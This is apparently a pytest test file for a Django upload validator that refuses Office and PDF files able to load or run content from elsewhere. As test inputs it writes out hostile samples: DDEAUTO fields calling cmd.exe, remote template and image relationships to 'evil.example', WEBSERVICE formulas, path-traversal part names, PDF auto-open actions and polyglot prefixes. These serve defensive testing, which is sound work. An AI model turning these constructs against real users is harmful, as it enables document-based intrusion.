"""Files that would load or open something elsewhere, however that is written."""

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from oicnet.documents import files
from tests.documents import hostile, office
from tests.documents.hostile import action, catalog

SPACE = "http://schemas.openxmlformats.org/package/2006/relationships"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships/"
EVIL = "http://evil.example/a"


def fault_of(content, name="a.docx"):
    try:
        files.validate(ContentFile(content, name=name))
    except ValidationError as refusal:
        return refusal.code
    return None


def related(xml, part="word/_rels/document.xml.rels"):
    return office.package(
        {
            "_rels/.rels": office.relations(("officeDocument", "word/document.xml")),
            "word/document.xml": f"<w:document {office.W}/>",
            part: xml,
        }
    )


def rels(kind, *, quote='"', prefix="", mode="TargetMode={q}External{q}", target=EVIL):
    mode = mode.format(q=quote)
    xmlns = f"xmlns:{prefix[:-1]}" if prefix else "xmlns"
    return (
        f"<?xml version='1.0'?><{prefix}Relationships {xmlns}={quote}{SPACE}{quote}>"
        f"<{prefix}Relationship {mode} Id={quote}r1{quote} Type={quote}{kind}{quote} "
        f"\n Target={quote}{target}{quote}></{prefix}Relationship></{prefix}Relationships>"
    )


@pytest.mark.parametrize(
    "written",
    [
        rels(office.KINDS + "image"),
        rels(office.KINDS + "image", quote="'"),
        rels(office.KINDS + "image", prefix="r:"),
        rels(office.KINDS + "image").encode("utf-16"),
        rels(office.KINDS + "image").encode("utf-16-be").join([b"\xfe\xff", b""]),
        rels(STRICT + "oleObject"),
        rels(office.KINDS + "image", mode="TargetMode = {q}External{q}"),
        rels(office.KINDS + "image", mode="TargetMode={q}&#69;xternal{q}"),
        rels(office.KINDS + "image", mode=""),  # an address all the same
        rels(office.KINDS + "frame", mode="", target="\\\\host\\share"),
    ],
)
def test_what_loads_from_elsewhere_is_refused_however_it_is_written(written):
    assert fault_of(related(written)) == "remote"


@pytest.mark.parametrize("quote", ['"', "'"])
@pytest.mark.parametrize("form", ["utf-8", "utf-16"])
def test_a_template_is_called_one(quote, form):
    written = rels(office.KINDS + "attachedTemplate", quote=quote).encode(form)

    assert fault_of(related(written, "word/_rels/settings.xml.rels")) == "template"


def test_a_link_to_follow_is_harmless():
    assert fault_of(related(rels(office.KINDS + "hyperlink"))) is None


def field(*pieces):
    return "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in pieces)


def mark(kind):
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (mark("begin") + field("DDE", "AUTO c:\\\\cmd.exe") + mark("end"), "active"),
        (mark("begin") + field(" dde excel") + mark("separate") + mark("end"), "active"),
        ("<w:fldSimple w:instr=' DDEAUTO c:\\cmd.exe '/>", "active"),
        (mark("begin") * 2 + field("QUOTE 68 68") + mark("end") * 2, "active"),
        (mark("begin") + field('INCLUDEPICTURE "http://evil.example"') + mark("end"), "remote"),
        (mark("begin") + field('INCLUDETEXT "\\\\\\\\host\\\\a.docx"') + mark("end"), "remote"),
        (mark("begin") + field('HYPERLINK "http://fine.example/"') + mark("end"), None),
        (mark("begin") + field("IF ") + mark("begin") + field("PAGE") + mark("end") * 2, None),
        ("<w:r><w:t>DDEAUTO is explained here</w:t></w:r>", None),
    ],
)  # fmt: skip
def test_fields_are_read_whole(body, code):
    assert fault_of(office.word(f"<w:p>{body}</w:p>")) == code


@pytest.mark.parametrize(
    ("formula", "code"),
    [
        ('_xlfn.WEBSERVICE("http://evil.example")', "remote"),
        ('_xlfn.IMAGE("http://evil.example")', "remote"),
        ('RTD("a.b",,"c")', "active"),
        ('HYPERLINK("http://fine.example")', None),
        ("SUM(A1:A9)", None),
    ],
)
def test_formulas_that_reach_out_are_refused(formula, code):
    sheet = f"<sheetData><row><c><f>{formula}</f></c></row></sheetData>"

    assert fault_of(office.book(("One", "visible", sheet)), "a.xlsx") == code


def test_a_link_of_excel_to_another_program_is_refused():
    link = "<x:externalLink xmlns:x='x'><x:ddeLink/></x:externalLink>"
    parts = {"xl/externalLinks/externalLink1.xml": link}

    assert fault_of(office.book(("One", "visible", ""), parts=parts), "a.xlsx") == "active"


@pytest.mark.parametrize("types", [b"utf-8", b"utf-16"])
def test_macros_are_known_by_their_type(types):
    declared = (
        "<t:Types xmlns:t='t'><t:Default Extension='bin' "
        "ContentType='application/vnd.ms-office.vbaProject'/></t:Types>"
    ).encode(types.decode())

    assert fault_of(hostile.office(types=declared)) == "active"


@pytest.mark.parametrize("name", ["../../a.xml", "/etc/a.xml", "word/../../a", "C:/a.xml", "..\\a"])
def test_no_part_leads_outside(name):
    content = office.package(
        {
            "_rels/.rels": office.relations(("officeDocument", "word/document.xml")),
            "word/document.xml": "<document/>",
            name: "x",
        }
    )

    assert fault_of(content) == "outside"


def test_a_file_within_is_looked_into():
    inside = related(rels(office.KINDS + "image", quote="'"))

    assert fault_of(hostile.office(word__embeddings__a__docx=b"")) is not None
    for content, code in {inside: "remote", office.word(""): None}.items():
        whole = office.package(
            {
                "_rels/.rels": office.relations(("officeDocument", "word/document.xml")),
                "word/document.xml": "<document/>",
                "word/embeddings/sheet.docx": content,
            }
        )
        assert fault_of(whole) == code


def uri(address="http://evil.example"):
    return action("URI", URI=TextStringObject(address))


def goes(kind, **entries):
    return action(kind, F=TextStringObject("//host/a.pdf"), **entries)


def opens(made):
    return hostile.pdf(lambda writer: catalog(writer, OpenAction=made))


def annotated(made):
    def change(writer):
        link = {"/Type": "/Annot", "/Subtype": "/Link"}
        annotation = DictionaryObject(
            {NameObject(key): NameObject(value) for key, value in link.items()}
        )
        annotation[NameObject("/A")] = made
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return hostile.pdf(change)


def turning(writer):
    triggers = DictionaryObject({NameObject("/O"): uri()})
    writer.pages[0][NameObject("/AA")] = triggers


def chained():
    first = action("Named", N=NameObject("/NextPage"))
    first[NameObject("/Next")] = ArrayObject([uri()])
    return first


@pytest.mark.parametrize(
    ("make_content", "code"),
    [
        (lambda: opens(uri()), "opens"),
        (lambda: opens(goes("GoToR")), "opens"),
        (lambda: opens(action("GoToR", F=TextStringObject("annex.pdf"))), "opens"),
        (lambda: opens(goes("GoToE")), "opens"),
        (lambda: opens(chained()), "opens"),
        (lambda: hostile.pdf(turning), "opens"),
        (lambda: annotated(goes("GoToR")), "opens"),
        (lambda: opens(action("SubmitForm")), "active"),
        (lambda: opens(action("ImportData")), "active"),
        (lambda: annotated(uri()), None),
        (lambda: annotated(action("GoToR", F=TextStringObject("annex.pdf"))), None),
        (lambda: opens(action("GoTo", D=ArrayObject([]))), None),
    ],
)
def test_a_pdf_opens_nothing_by_itself(make_content, code):
    assert fault_of(make_content(), "a.pdf") == code


@pytest.mark.parametrize("before", [b"\r\n\r\n", b"\xef\xbb\xbf", b" " * 900, b"@PJL SET X\r\n"])
@pytest.mark.parametrize("after", [b"", b"\x00" * 16, b"\r\n\r\n", b"\x1a"])
def test_some_bytes_around_a_pdf_do_no_harm(before, after):
    content = before + hostile.pdf() + after

    assert fault_of(content, "a.pdf") is None
    assert files.examine(ContentFile(content, name="a.pdf")).pages == 1


@pytest.mark.parametrize("before", [b"MZ\x90", b"GIF89a", b"<html>", b"x" * 1100, b"#!/bin/sh\n"])
def test_another_kind_of_file_before_it_does(before):
    assert fault_of(before + hostile.pdf(), "a.pdf") in {"mixed", "type"}


@pytest.mark.parametrize(("more", "code"), [(0, None), (1, "mixed")])
def test_a_kibibyte_may_stand_behind_it(more, code):
    assert fault_of(hostile.pdf().rstrip() + b"x" * (1024 + more), "a.pdf") == code


@pytest.mark.parametrize("after", [b"\x00" * 16, b"\r\n"])
def test_some_bytes_behind_an_office_file_do_no_harm(after):
    assert fault_of(office.word("") + after) is None


def test_an_archive_may_have_a_comment():
    parts = {
        "_rels/.rels": office.relations(("officeDocument", "word/document.xml")),
        "word/document.xml": "<document/>",
    }

    assert fault_of(office.package(parts, comment=b"made by a scanner")) is None
    assert fault_of(office.package(parts, comment=b"%PDF-1.4 and more")) == "mixed"


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-128", "AES-256"])
def test_a_pdf_that_only_its_owner_may_change_is_taken(algorithm):
    def restrict(writer):
        writer.encrypt(user_password="", owner_password="owner", algorithm=algorithm)

    assert fault_of(hostile.pdf(restrict), "a.pdf") is None
